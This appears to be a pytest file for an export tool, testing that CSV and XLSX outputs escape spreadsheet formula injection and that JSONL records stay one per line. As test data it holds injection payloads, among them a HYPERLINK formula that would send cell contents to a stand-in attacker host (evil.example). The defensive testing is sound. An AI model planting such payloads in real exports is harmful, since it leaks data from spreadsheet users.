"""No cell of any CSV or XLSX kefu writes is a live formula, whatever text a chat holds (pipeline/outputs/cells.py)."""

from __future__ import annotations

import csv
import json
import re
import tempfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from conftest import LINE_BREAK_TEXT
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from pipeline.models.grade import CriterionGrade, Grade, QuotedEvidence
from pipeline.outputs.cells import csv_cell, looks_like_formula, original_text
from pipeline.outputs.exports import export_run, write_checks, write_outputs
from pipeline.outputs.summary import GROUP_BY, summarize_run, write_summary
from pipeline.rubric.load import load_rubric
from pipeline.rubric.model import Rubric
from pipeline.store.store import Store

DATA = Path(__file__).resolve().parents[1] / "data"
NOW = datetime(2026, 3, 2, 2, 0, tzinfo=UTC)
FORMULA_CHARS = "=+-@＝＋－＠"
XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def is_live_formula(cell: str) -> bool:
    """The test's own reading of what a spreadsheet runs: a cell that starts with a tab or CR, or whose
    first visible character (after blanks and control characters) is a formula character; a leading
    `'` makes the cell text."""
    if cell.startswith("'"):
        return False
    if cell[:1] in ("\t", "\r"):
        return True
    visible = [c for c in cell if c.isprintable() and not c.isspace()]
    return bool(visible) and visible[0] in FORMULA_CHARS


@pytest.fixture(scope="module")
def rubric() -> Rubric:
    return load_rubric(DATA / "tiny_hooks.yaml")


@pytest.mark.parametrize("text", [
    "=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")", "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
    " =1+1", "\u3000=1+1", "\x00=1", "＝1+1", "－1",
])
def test_text_that_could_start_a_formula_gets_a_quote(text: str) -> None:
    assert looks_like_formula(text)
    assert csv_cell(text) == "'" + text and original_text(csv_cell(text)) == text


@pytest.mark.parametrize("value", ["c001", "张三", "", "a=b", "1+1", " 你好", "'quoted", -5, -2.5, 0, True, None])
def test_other_values_are_left_alone_and_numbers_stay_numbers(value: Any) -> None:
    expected = "'" + value if isinstance(value, str) and value.startswith("'") else value
    assert csv_cell(value) == expected
    if isinstance(value, str):
        assert original_text(csv_cell(value)) == value


def store_run(folder: Path, rubric: Rubric, texts: list[str]) -> None:
    """One transcript per text: the text as its id, agent, shop, platform, model, reasoning, quote and error."""
    with Store.open(folder) as store:
        run = store.start_run(rubric_id=rubric.id, rubric_version="1", rubric_hash=rubric.content_hash,
                              template_hash="p", model="m", settings={})
        for i, text in enumerate(texts):
            tid = f"{text}{i}" if text else f"-{i}"  # ids are unique and never empty
            store.save_transcript_meta(transcript_id=tid, content_hash="h", platform=text, shop=text,
                                       agent_id=text, started_at=None, n_turns=2, source=text, checks=None)
            unscored = i % 2 == 1
            criteria = [CriterionGrade(criterion_id=c.id, score=None if unscored else c.max, reasoning=text,
                                       evidence=[QuotedEvidence(turn=1, quote=text, verified=False)])
                        for c in rubric.criteria()]
            store.save_grade(Grade(key=f"k{i}", transcript_id=tid, repeat=0, scope="all",
                                   status="unscored" if unscored else "scored", criteria=criteria, model=text,
                                   attempts=1, error=text if unscored else None, created_at=NOW),
                             run, rubric.content_hash)


def write_every_table(folder: Path, rubric: Rubric) -> tuple[list[Path], list[Path]]:
    """Every CSV and XLSX kefu writes from a run folder."""
    with Store.open(folder) as store:
        scores, _ = write_outputs(store, rubric, folder)
        csvs = [scores, *export_run(store, rubric, "csv", folder / "csv")]
        xlsxs = export_run(store, rubric, "xlsx", folder / "xlsx")
        for by in GROUP_BY[:3]:  # agent, shop, platform: the groups named by chat text
            groups = summarize_run(store, rubric, by)
            csvs.append(write_summary(groups, rubric, by, folder / f"by_{by}.csv", "csv"))
            xlsxs.append(write_summary(groups, rubric, by, folder / f"by_{by}.xlsx", "xlsx"))
    return csvs, xlsxs


def csv_cells_of(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def xlsx_cells_of(path: Path) -> list[tuple[Any, str]]:
    book = load_workbook(path)
    return [(cell.value, cell.data_type) for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_a_hyperlink_id_is_text_in_every_table(rubric: Rubric, tmp_path: Path) -> None:
    attack = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
    store_run(tmp_path, rubric, [attack, "-12", "@SUM(1)"])
    csvs, xlsxs = write_every_table(tmp_path, rubric)
    for path in csvs:
        cells = csv_cells_of(path)
        assert not [c for c in cells if is_live_formula(c)], path
    scores = list(csv.DictReader((tmp_path / "scores.csv").open(encoding="utf-8-sig")))
    assert [r["transcript_id"] for r in scores] == ["'-121", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"详情\")0",
                                                   "'@SUM(1)2"]
    assert scores[0]["repeat"] == "0" and scores[1]["total"] == "10"  # numbers are not quoted
    book = load_workbook(xlsxs[0])
    ids = [(c.value, c.data_type, c.quotePrefix) for c in book["评分"]["A"][2:]]  # below the judge's note and header
    assert ids == [("-121", "s", True), (attack + "0", "s", True), ("@SUM(1)2", "s", True)]
    assert book["评分"]["B3"].value == 0 and book["评分"]["B3"].data_type == "n"


TEXT = st.one_of(
    st.text(),
    st.builds(str.__add__, st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", " =", "\u3000+", "\x00@", "＝",
                                            "'", "'=", "\u200b="]), st.text()),
)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(texts=st.lists(TEXT | LINE_BREAK_TEXT, min_size=1, max_size=4))
def test_no_text_in_any_field_becomes_a_formula(rubric: Rubric, texts: list[str]) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        store_run(folder, rubric, texts)
        csvs, xlsxs = write_every_table(folder, rubric)
        for path in csvs:
            cells = csv_cells_of(path)
            assert not [c for c in cells if is_live_formula(c)], path
            originals = {original_text(c) for c in cells}
            assert {t for t in texts if t} <= originals | {""}, path  # the text comes back, CR and U+2028 too
        for path in xlsxs:
            cells = xlsx_cells_of(path)
            for value, data_type in cells:
                assert data_type != "f", (path, value)
                if isinstance(value, str):
                    assert data_type == "s", (path, value)
            values = {v for v, _ in cells}
            # XML holds no control characters (U+FFFD instead) and reads CR as LF.
            assert {XML_ILLEGAL.sub("\ufffd", t) for t in texts if t and "\r" not in t} <= values | {None}, path


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(texts=st.lists(LINE_BREAK_TEXT, min_size=1, max_size=4))
@example(texts=["店\u2028铺", "\x85", "a\u2029\r\nb"])
def test_any_text_in_any_field_keeps_each_jsonl_record_on_one_line(rubric: Rubric, texts: list[str]) -> None:
    """grades.jsonl and checks.jsonl, read with str.splitlines (which splits at U+2028, U+0085… too): one record
    per line, each holding the text as it was."""
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        store_run(folder, rubric, texts)
        with Store.open(folder) as store:
            write_outputs(store, rubric, folder)
            write_checks(store, folder)
        grades = [json.loads(line) for line in (folder / "grades.jsonl").read_text(encoding="utf-8").splitlines()]
        checks = [json.loads(line) for line in (folder / "checks.jsonl").read_text(encoding="utf-8").splitlines()]
    assert len(checks) == len(texts) and len(grades) == len(texts) * len(rubric.criteria())
    assert sorted(c["shop"] for c in checks) == sorted(texts)
    assert {g["reasoning"] for g in grades} == set(texts)
